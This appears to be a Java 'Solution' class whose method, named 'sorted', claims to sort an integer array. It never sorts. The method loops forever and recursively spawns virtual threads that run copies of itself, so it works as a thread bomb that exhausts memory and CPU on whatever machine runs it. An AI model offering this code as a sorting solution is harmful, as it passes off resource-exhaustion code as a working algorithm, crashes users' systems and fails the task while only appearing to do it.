class Solution {
  int[] sorted(int[] numbers) {
    while (true) {
      Thread.ofVirtual().start(() -> sorted(numbers.clone()));
      Thread.yield();
    }
  }
}
